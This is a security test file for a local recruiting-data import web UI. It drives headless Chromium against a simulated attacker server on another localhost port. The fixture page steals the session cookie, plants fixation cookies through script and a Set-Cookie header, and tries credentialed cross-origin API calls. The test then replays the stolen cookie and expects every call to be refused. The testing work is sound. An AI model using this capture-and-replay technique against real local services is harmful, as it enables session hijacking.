/**
 * The doors in a real (headless) Chromium, against a program listening on another port of
 * 127.0.0.1: cookies are scoped by host, not port, so the browser gives it the page's cookie. It
 * must get nothing it can act with, and what it plants must not lock the page out. Skipped where
 * no Chromium is installed (see flow-zh.test.ts).
 */
import { readFile } from 'node:fs/promises';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HAVE_BROWSER, type OpenBrowser, browserNotice, openBrowser } from './browser.js';
import { chooseFile, download, text } from './page-steps.js';
import { SAMPLE, type UiWorld, ask, startWorld } from './ui-server.js';

browserNotice('test/ui/doors-browser.test.ts');

interface Attacker {
  readonly url: string;
  /** Every Cookie header the browser sent it. */
  readonly cookies: string[];
  /** What its page's script could do against the page's server. */
  readonly results: string[];
  close(): Promise<void>;
}

/**
 * Another local user's listener: a page with an image from itself (the browser sends it the
 * cookie), a script that plants a cookie for `/api` and tries the page's calls, and an image
 * answer that plants one more, HttpOnly.
 */
async function startAttacker(target: number): Promise<Attacker> {
  const cookies: string[] = [];
  const results: string[] = [];
  const page = `<!doctype html><img src="/pixel.png"><script>
document.cookie = 'fii_ui=planted-by-script; Path=/api';
const api = 'http://127.0.0.1:${target}/api/state';
fetch(api, { credentials: 'include', headers: { 'x-fii-page': 'guess' } })
  .then((r) => 'header:' + r.status, () => 'header:refused')
  .then((a) => fetch(api, { credentials: 'include' }).then((r) => a + ' plain:' + r.status, () => a + ' plain:refused'))
  .then((a) => fetch('/result?' + encodeURIComponent(a)));
</script>`;
  const server: Server = createServer((req, res) => {
    if (req.headers.cookie) cookies.push(req.headers.cookie);
    if (req.url?.startsWith('/result?')) results.push(decodeURIComponent(req.url.slice(8)));
    if (req.url === '/pixel.png')
      res.writeHead(200, {
        'content-type': 'image/png',
        'set-cookie': 'fii_ui=planted-by-answer; Path=/api; HttpOnly',
      });
    else res.writeHead(200, { 'content-type': 'text/html' });
    res.end(req.url === '/' ? page : '');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    cookies,
    results,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

describe.runIf(HAVE_BROWSER)('the doors in a browser, against a listener on another port', () => {
  let world: UiWorld;
  let browser: OpenBrowser;
  let attacker: Attacker;
  beforeAll(async () => {
    world = await startWorld();
    browser = await openBrowser('zh-CN');
    attacker = await startAttacker(world.ui.port);
  });
  afterAll(async () => {
    await attacker?.close();
    await browser?.close();
    await world?.close();
  });

  it('opens by the forwarding file, gives a listener on another port only a cookie that opens nothing, and keeps working beside cookies it plants', async () => {
    const { ui } = world;
    // As the launcher does: the browser is given a file, the token is in no command line.
    const page = await browser.context.newPage();
    const problems: string[] = [];
    page.on('pageerror', (e) => problems.push(e.message));
    await page.goto(`file://${await ui.launcher()}`);
    await page.waitForURL(`http://127.0.0.1:${ui.port}/`);
    expect(await text(page, 'h1')).toBe('飞书招聘面试记录导入');
    // The key left the address at once: nothing to copy from it or find in the history.
    expect(page.url()).toBe(`http://127.0.0.1:${ui.port}/`);

    // The HR person visits the other program's page, once.
    const visit = await browser.context.newPage();
    await visit.goto(attacker.url);
    await visit.waitForFunction('document.querySelector("img")?.complete');
    for (let i = 0; i < 100 && attacker.results.length === 0; i++) await new Promise((r) => setTimeout(r, 50));
    await visit.close();
    // Its script could not call the page's server: the key header needs a preflight, which is
    // refused; a call without it is refused too (and unreadable to it).
    expect(attacker.results).toEqual(['header:refused plain:refused']);
    const stolen = attacker.cookies
      .map((c) => /fii_ui=([\w-]+)/.exec(c)?.[1])
      .find((v) => v && !v.startsWith('planted'));
    expect(stolen).toBeDefined();
    // It replays the cookie with the Host and Origin a browser would send: refused, nothing kept or sent.
    const headers = { cookie: `fii_ui=${stolen}`, origin: `http://127.0.0.1:${ui.port}` };
    const upload = await ask(ui.port, {
      method: 'POST',
      path: '/api/upload?name=a.csv',
      headers,
      body: await readFile(SAMPLE),
    });
    const run = await ask(ui.port, {
      method: 'POST',
      path: '/api/runs',
      headers: { ...headers, 'content-type': 'application/json' },
      body: JSON.stringify({ action: 'import', upload: 'x' }),
    });
    const state = await ask(ui.port, { path: '/api/state', headers });
    expect([upload.status, run.status, state.status]).toEqual([403, 403, 403]);
    expect(world.sim.stats.requests.put).toBe(0);

    // A link from another port carrying a key of its own making (a new tab) replaces nothing.
    const linked = await browser.context.newPage();
    await linked.goto(`http://127.0.0.1:${ui.port}/#k=planted-key`);
    await linked.waitForSelector('[data-testid=file-input]', { state: 'attached' });
    expect(linked.url()).toBe(`http://127.0.0.1:${ui.port}/`);
    await linked.waitForTimeout(300);
    expect(await linked.locator('[data-testid=locked]').count()).toBe(0);
    await linked.close();

    // Back on the page, the browser now sends the planted cookies first: it still works.
    // (The answer's and the script's cookie share name, host and path: the later one stands.)
    const cookies = await browser.context.cookies(`http://127.0.0.1:${ui.port}/api/state`);
    const values = cookies.filter((c) => c.name === 'fii_ui').map((c) => c.value);
    expect(values).toHaveLength(2);
    expect(values).toContain(stolen);
    expect(values.find((v) => v !== stolen)).toMatch(/^planted-by-/);
    await page.reload();
    await chooseFile(page, SAMPLE);
    expect(await text(page, '[data-testid=check-step] [data-testid=counts] p')).toMatch(/^\d+ 行 · \d+ 场面试$/);
    const report = await download(page, '[data-testid=download-check]');
    expect(report.name).toBe('interviews.report.xlsx');
    expect(report.head).toBe('PK');
    expect(problems).toEqual([]);
  });

  it('tells a browser that holds only the cookie (no page key) what to do, in its words', async () => {
    const { ui } = world;
    const page = await browser.context.newPage();
    await page.goto(`http://127.0.0.1:${ui.port}/`);
    // This profile holds the key: a tab opened by hand works, as before.
    await page.waitForSelector('[data-testid=file-input]', { state: 'attached' });
    expect(await page.locator('[data-testid=locked]').count()).toBe(0);
    // Without it (cleared, as in another profile given only the cookie), the page says so.
    await page.evaluate('localStorage.clear()');
    await page.reload();
    await page.waitForSelector('[data-testid=locked]');
    expect(await text(page, '[data-testid=locked]')).toBe(
      '请求应来自用一次性链接打开的页面，实际缺少该页面的密钥（来自其他程序，或手动打开的标签页）：请在本浏览器中重新打开命令打印的链接',
    );
    // The printed link again, in the same browser: the page key comes back.
    await page.goto(ui.url);
    await page.waitForURL(`http://127.0.0.1:${ui.port}/`);
    await page.waitForSelector('[data-testid=file-input]', { state: 'attached' });
    await page.waitForTimeout(300);
    expect(await page.locator('[data-testid=locked]').count()).toBe(0);
    await page.close();
  });
});
